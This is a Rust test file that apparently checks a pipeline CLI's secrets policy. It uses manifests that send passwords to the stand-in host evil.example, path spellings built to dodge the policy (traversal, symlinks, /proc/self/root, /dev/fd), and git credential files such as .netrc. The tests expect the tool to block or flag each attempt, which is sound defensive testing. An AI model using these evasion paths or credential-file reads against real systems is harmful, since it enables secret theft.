//! A secret has one name, and a pair of secret and host is known only if it was sent: no spelling, link or unused manifest
//! gets around the policy or the reviewer.

use std::os::unix::fs::symlink;

use crate::support::cli::WorkDir;
use crate::support::test_repo::{TestRepo, postgres_manifest};

const NEW_PAIR: &str = "sends PROD_PG_PASSWORD to evil.example:5432 for the first time";

fn kafka_manifest(broker: &str, password: &str) -> String {
    format!(
        "apiVersion: pipectl/v1
kind: ClickPipe
metadata: {{name: clicks, service: analytics}}
spec:
  source:
    kafka: {{type: kafka, format: JSONEachRow, brokers: '{broker}:9092', topics: t, authentication: PLAIN,
      credentials: {{username: u, password: {password}}}}}
  destination: {{database: default, table: t, managedTable: true, tableDefinition: {{engine: {{type: MergeTree}}}}, columns: [{{name: id, type: UInt64}}]}}
"
    )
}

/// Where the policy limits `rel.key`, a folder outside the project with a key, and one through which links lead.
fn limited_desk() -> WorkDir {
    let desk = WorkDir::new();
    let outside = desk.temp_dir.path().join("mounted").display().to_string();
    desk.write_file("mounted/k", "secret-of-the-machine");
    symlink("mounted", desk.temp_dir.path().join("alias")).unwrap();
    desk.write_file("project/rel.key", "secret-of-the-project");
    desk.write_file("project/sub/empty", "");
    symlink("rel.key", desk.temp_dir.path().join("project/link.key")).unwrap();
    symlink(".", desk.temp_dir.path().join("project/here")).unwrap();
    let limits = format!("'./rel.key': ['*.corp.example'], '{outside}/*': ['*.corp.example']");
    let project =
        format!("apiVersion: pipectl/v1\nkind: Project\nmanifests: [pipes]\npolicy: {{secrets: {{{limits}}}}}\n");
    desk.write_file("project/pipectl.yaml", &project);
    desk
}

#[test]
fn policy_holds_a_file_secret_under_every_spelling_of_its_path() {
    let desk = limited_desk();
    let top = desk.temp_dir.path().canonicalize().unwrap().display().to_string();
    let apply = |path: &str, broker: &str| {
        desk.write_file("project/pipes/clicks.yaml", kafka_manifest(broker, &format!("{{fromFile: '{path}'}}")));
        desk.run_in_subfolder("project", &["apply", "--yes", "--sandbox"], &[])
    };
    let absolute = [format!("{top}/mounted/k"), format!("{top}/mounted/x/../k"), format!("{top}//mounted/./k")];
    for path in ["rel.key", "./rel.key", "sub/../rel.key", "nowhere/../rel.key", ".//rel.key"] {
        let said = apply(path, "evil.example");
        assert_eq!(said.code, 5, "{path}: {}", said.all_output());
        assert!(said.stdout.contains("it would send `file rel.key` to `evil.example:9092`"), "{path}: {}", said.stdout);
    }
    for path in &absolute {
        let said = apply(path, "evil.example");
        assert_eq!(said.code, 5, "{path}: {}", said.all_output());
    }
    let linked = [
        ("link.key".to_owned(), "it is a link to rel.key: write that path"),
        ("here/rel.key".to_owned(), "it is a link to rel.key: write that path"),
        (format!("{top}/alias/k"), "which `policy.secrets` limits"),
        (format!("{top}/project/rel.key"), "which `policy.secrets` limits"),
        (format!("/proc/self/root{top}/mounted/k"), "it belongs to a process"),
        ("/dev/fd/../../proc/self/cwd/rel.key".to_owned(), "it belongs to a process"),
    ];
    for (path, why) in linked {
        let said = apply(&path, "evil.example");
        assert!(said.code == 1 && said.stdout.contains(why), "{path}: {}", said.all_output());
    }
    let said = apply("./rel.key", "good.corp.example");
    assert_eq!(said.code, 0, "{}", said.all_output());
}

#[test]
fn files_in_which_git_keeps_tokens_are_no_secrets() {
    let desk = WorkDir::new();
    desk.write_file("pipectl.yaml", "apiVersion: pipectl/v1\nkind: Project\nmanifests: [pipes]\n");
    for file in [".git-credentials", ".gitconfig", ".netrc", ".config/git/credentials", "git-credentials-1.config"] {
        desk.write_file(&format!("home/{file}"), "secret-of-git");
        let path = desk.temp_dir.path().join("home").join(file);
        desk.write_file("pipes/clicks.yaml", kafka_manifest("b", &format!("{{fromFile: '{}'}}", path.display())));
        let said = desk.run_pipectl(&["apply", "--yes", "--sandbox"]);
        assert!(said.code == 1 && said.stdout.contains("it belongs to git"), "{file}: {}", said.all_output());
    }
}

/// One pipe that is live and committed, and what a commit writes before the one that is planned.
fn repo_after(write: impl Fn(&TestRepo)) -> TestRepo {
    let repo = TestRepo::new();
    repo.write_file("pipectl.yaml", "apiVersion: pipectl/v1\nkind: Project\nmanifests: [pipes]\n");
    repo.write_file("pipes/orders.yaml", &postgres_manifest("orders", "pg.corp.example", ""));
    repo.commit_all("Copy the orders");
    let said = repo.run_with_env(&["apply", "--yes"], &[("PROD_PG_PASSWORD", "secret")]);
    assert_eq!(said.code, 0, "{}", said.all_output());
    write(&repo);
    repo.commit_all("Prepare");
    let text = repo.run_successfully(&["plan", "--base", "HEAD~1"]);
    assert!(text.contains("No changes"), "{text}");
    repo
}

#[test]
fn pair_that_was_declared_and_never_sent_is_new() {
    let evil = postgres_manifest("evil", "evil.example", "");
    let absent = evil.replace("spec:", "spec:\n  state: absent");
    let absent_first = repo_after(|repo| repo.write_file("pipes/evil.yaml", &absent));
    absent_first.write_file("pipes/evil.yaml", &evil);
    let outside_first = repo_after(|repo| repo.write_file("docs/example.yaml", &evil));
    outside_first.run_git(&["mv", "docs/example.yaml", "pipes/evil.yaml"]);
    let included_later = repo_after(|repo| repo.write_file("other/evil.yaml", &evil));
    included_later.write_file("pipectl.yaml", "apiVersion: pipectl/v1\nkind: Project\nmanifests: [pipes, other]\n");
    for repo in [absent_first, outside_first, included_later] {
        repo.commit_all("Use it");
        let text = repo.run_successfully(&["plan", "--base", "HEAD~1"]);
        assert!(text.contains(NEW_PAIR), "{text}");
        assert!(text.contains("review: sends `PROD_PG_PASSWORD` to `evil.example:5432` for the first time"), "{text}");
    }
}
